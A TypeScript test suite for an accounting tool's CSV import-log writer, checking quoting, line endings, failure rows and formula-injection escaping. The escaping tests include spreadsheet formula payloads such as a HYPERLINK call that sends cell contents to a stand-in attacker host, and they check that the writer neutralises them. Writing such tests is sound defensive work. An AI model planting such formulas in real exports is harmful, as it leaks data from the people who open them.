import fc from 'fast-check';

import { processBatch } from '../../lib/mapping/pipeline';
import { MappingTables } from '../../lib/mapping/tables';
import { genericProfile } from '../../lib/profiles/generic';
import { FAILURE_CODES } from '../../lib/report/failureCodes';
import { buildImportLog, csvCell, type ImportLogInput, type LoggedRejection } from '../../lib/report/importLog';
import { purchaseInvoice, salesInvoice } from './fixtures';

/**
 * An independent reader for the log, written from RFC 4180 rather than from the writer:
 * quoted cells may hold commas, doubled quotes and line breaks; records end with CRLF.
 * Records are returned without the byte-order mark, which the caller checks.
 */
function readCsv(text: string): string[][] {
	const records: string[][] = [];
	let record: string[] = [];
	let cell = '';
	let quoted = false;
	let position = 0;
	while (position < text.length) {
		const character = text[position];
		if (quoted) {
			if (character === '"' && text[position + 1] === '"') {
				cell += '"';
				position += 2;
				continue;
			}
			if (character === '"') quoted = false;
			else cell += character;
			position += 1;
			continue;
		}
		if (character === '"' && cell === '') {
			quoted = true;
		} else if (character === ',') {
			record.push(cell);
			cell = '';
		} else if (character === '\r' && text[position + 1] === '\n') {
			record.push(cell);
			records.push(record);
			record = [];
			cell = '';
			position += 1;
		} else if (character === '\n' || character === '\r') {
			throw new Error(`Bare line break outside quotes at ${position}`);
		} else {
			cell += character;
		}
		position += 1;
	}
	if (cell !== '' || record.length > 0) throw new Error('The last record does not end with CRLF');
	return records;
}

const HEADINGS = ['Item', 'Document type', 'Document number', 'Account code', 'Name', 'Source', 'Failure code', 'Field', 'Message'];

function logOf(rejections: LoggedRejection[], counts: Partial<ImportLogInput> = {}): string {
	return buildImportLog({
		runAt: new Date('2026-03-31T09:30:00Z'),
		target: 'Generic Ledger (No Length Limits)',
		documentCount: 3,
		validCount: 3 - rejections.length,
		rejections,
		...counts,
	});
}

/** The failure rows: between the column headings and the blank line before the code table. */
function failureRows(records: string[][]): string[][] {
	const start = records.findIndex((record) => record[0] === 'Item' && record[1] === 'Document type');
	const end = records.findIndex((record) => record[0] === 'FAILURE CODE TABLE');
	return records.slice(start + 1, end - 1);
}

const invoiceWithoutCode = () => {
	const document = salesInvoice();
	delete document.party!.code;
	document.header!.number = 'INV-1002';
	return document;
};

describe('the import log a person opens in Excel', () => {
	const rejections: LoggedRejection[] = [
		{
			item: 2,
			input: invoiceWithoutCode(),
			failures: [
				{
					code: 'CUSTOMER_CODE_MISSING',
					field: 'party.code',
					message: 'Sales invoice INV-1002: customer account code is empty; Generic Ledger (No Length Limits) requires it.',
				},
				{
					code: 'ACCOUNT_CODE_MISSING',
					field: 'lines[1].account',
					message: 'Sales invoice INV-1002: line 2 GL account is empty; Generic Ledger (No Length Limits) requires it.',
				},
			],
		},
	];
	const text = logOf(rejections);
	const records = readCsv(text.slice(1));

	test('starts with a UTF-8 byte-order mark so Excel reads accents', () => {
		expect(text.charCodeAt(0)).toBe(0xfeff);
		expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
	});

	test('every line ends with CRLF and there is no bare line feed', () => {
		expect(text.endsWith('\r\n')).toBe(true);
		expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
	});

	test('the heading gives the run time, the target and the counts', () => {
		expect(records.slice(0, 7)).toEqual([
			['Ledger Bridge import log'],
			['Run at', '2026-03-31T09:30:00.000Z'],
			['Target', 'Generic Ledger (No Length Limits)'],
			['Documents', '3'],
			['Valid', '2'],
			['Rejected', '1'],
			[''],
		]);
		expect(records[7]).toEqual(HEADINGS);
	});

	test('there is one row per failure with item number, document, failure code, field and message', () => {
		expect(failureRows(records)).toEqual([
			[
				'2',
				'sales invoice',
				'INV-1002',
				'',
				'Acme Ltd',
				'streamtime 1001',
				'CUSTOMER_CODE_MISSING',
				'party.code',
				'Sales invoice INV-1002: customer account code is empty; Generic Ledger (No Length Limits) requires it.',
			],
			[
				'2',
				'sales invoice',
				'INV-1002',
				'',
				'Acme Ltd',
				'streamtime 1001',
				'ACCOUNT_CODE_MISSING',
				'lines[1].account',
				'Sales invoice INV-1002: line 2 GL account is empty; Generic Ledger (No Length Limits) requires it.',
			],
		]);
	});

	test('the log ends with the FAILURE CODE TABLE listing every failure code with its meaning and fix', () => {
		const start = records.findIndex((record) => record[0] === 'FAILURE CODE TABLE');
		expect(records[start - 1]).toEqual(['']);
		expect(records[start]).toEqual(['FAILURE CODE TABLE']);
		expect(records[start + 1]).toEqual(['Failure code', 'Meaning', 'How to fix']);
		const table = records.slice(start + 2);
		expect(table).toEqual(Object.entries(FAILURE_CODES).map(([code, { meaning, fix }]) => [code, meaning, fix]));
		expect(table.map((row) => row[0])).toContain('CUSTOMER_CODE_MISSING');
		expect(table.map((row) => row[0])).toContain('BATCH_STOPPED');
		expect(table).toHaveLength(Object.keys(FAILURE_CODES).length);
	});

	test('a run with no rejections has the headings and the code table but no failure rows', () => {
		const clean = readCsv(logOf([], { documentCount: 2, validCount: 2 }).slice(1));
		expect(clean.slice(3, 6)).toEqual([['Documents', '2'], ['Valid', '2'], ['Rejected', '0']]);
		expect(failureRows(clean)).toEqual([]);
	});

	test('an item that was not a document still gets a row, with its own failure code', () => {
		const log = readCsv(
			logOf([
				{
					item: 1,
					input: 'INV-1001',
					failures: [{ code: 'DOCUMENT_NOT_AN_OBJECT', message: 'This item is not a ledger document: expected a JSON object with a "type".' }],
				},
			]).slice(1),
		);
		expect(failureRows(log)).toEqual([
			['1', '', '', '', '', '', 'DOCUMENT_NOT_AN_OBJECT', '', 'This item is not a ledger document: expected a JSON object with a "type".'],
		]);
	});

	test('an unknown document type is written as it was given', () => {
		const log = readCsv(
			logOf([
				{
					item: 1,
					input: { type: 'salesInvoce', header: { number: 'INV-1001' } },
					failures: [{ code: 'DOCUMENT_TYPE_UNKNOWN', field: 'type', message: 'Sales invoice INV-1001: bad type.' }],
				},
			]).slice(1),
		);
		expect(failureRows(log)[0].slice(0, 3)).toEqual(['1', 'salesInvoce', 'INV-1001']);
	});
});

describe('cells are written so Excel shows them as text', () => {
	test('plain text is written as it is', () => {
		expect(csvCell('INV-1001')).toBe('INV-1001');
		expect(csvCell('Acme Ltd')).toBe('Acme Ltd');
		expect(csvCell('')).toBe('');
	});

	test('a cell with a comma, a quote or a line break is quoted, with quotes doubled', () => {
		expect(csvCell('Acme, Leeds')).toBe('"Acme, Leeds"');
		expect(csvCell('The "Big" Shop')).toBe('"The ""Big"" Shop"');
		expect(csvCell('Design work\r\nphase 2')).toBe('"Design work\r\nphase 2"');
		expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
	});

	test.each([
		['=HYPERLINK("http://evil.example","Click")', `"'=HYPERLINK(""http://evil.example"",""Click"")"`],
		['=1+1', "'=1+1"],
		['+44 113 496 0000', "'+44 113 496 0000"],
		['-2+3', "'-2+3"],
		['@SUM(A1)', "'@SUM(A1)"],
		['\t=1+1', "'\t=1+1"],
	])('a cell starting with a formula character (%p) is prefixed with an apostrophe', (value, expected) => {
		expect(csvCell(value)).toBe(expected);
	});

	test('a party name "=HYPERLINK(...)" reaches the log as text starting with an apostrophe', () => {
		const document = salesInvoice();
		document.party = { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")' };
		const log = logOf([
			{
				item: 1,
				input: document,
				failures: [{ code: 'CUSTOMER_CODE_MISSING', field: 'party.code', message: 'Sales invoice INV-1001: customer account code is empty.' }],
			},
		]);
		expect(log).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
		const [row] = failureRows(readCsv(log.slice(1)));
		expect(row[4]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
		expect(row).toHaveLength(HEADINGS.length);
	});

	test('a description with commas, quotes and line breaks in a message survives a round trip through a CSV reader', () => {
		const message = 'Purchase invoice PI-2001: line 1 details "A4 paper, 20 reams\r\nboxed" is 30 characters long; the target allows 20.';
		const log = logOf([
			{ item: 3, input: purchaseInvoice(), failures: [{ code: 'FIELD_TOO_LONG', field: 'lines[0].description', message }] },
		]);
		const [row] = failureRows(readCsv(log.slice(1)));
		expect(row).toEqual(['3', 'purchase invoice', 'PI-2001', 'PAPER', 'Paper Supplies Ltd', '', 'FIELD_TOO_LONG', 'lines[0].description', message]);
	});

	test('any text written to a cell reads back as the same text (after the apostrophe for formulas)', () => {
		const text = fc.string({ unit: fc.constantFrom('a', 'Z', '1', ' ', ',', '"', '\r', '\n', '=', '+', '-', '@', '\t', 'é', "'") });
		fc.assert(
			fc.property(fc.array(text, { minLength: 1, maxLength: 6 }), (cells) => {
				const [record] = readCsv(`${cells.map(csvCell).join(',')}\r\n`);
				const expected = cells.map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell));
				expect(record).toEqual(expected);
			}),
		);
	});
});

describe('the import log of a real run', () => {
	test('the rejections of processBatch are logged with 1-based item numbers and the counts add up', () => {
		const withoutCode = salesInvoice();
		withoutCode.header!.number = 'INV-1002';
		delete withoutCode.party!.code;
		const inputs = [salesInvoice(), withoutCode, 'not a document'];
		const outcomes = processBatch(inputs, { tables: new MappingTables(), profile: genericProfile, mode: 'perDocument' });
		const rejections = outcomes.flatMap((outcome) =>
			outcome.status === 'rejected' ? [{ item: outcome.index + 1, input: outcome.input, failures: outcome.failures }] : [],
		);
		const records = readCsv(
			buildImportLog({
				runAt: new Date('2026-03-31T09:30:00Z'),
				target: genericProfile.name,
				documentCount: inputs.length,
				validCount: outcomes.length - rejections.length,
				rejections,
			}).slice(1),
		);
		expect(records.slice(3, 6)).toEqual([['Documents', '3'], ['Valid', '1'], ['Rejected', '2']]);
		expect(failureRows(records).map((row) => [row[0], row[2], row[6], row[7]])).toEqual([
			['2', 'INV-1002', 'CUSTOMER_CODE_MISSING', 'party.code'],
			['3', '', 'DOCUMENT_NOT_AN_OBJECT', ''],
		]);
	});
});
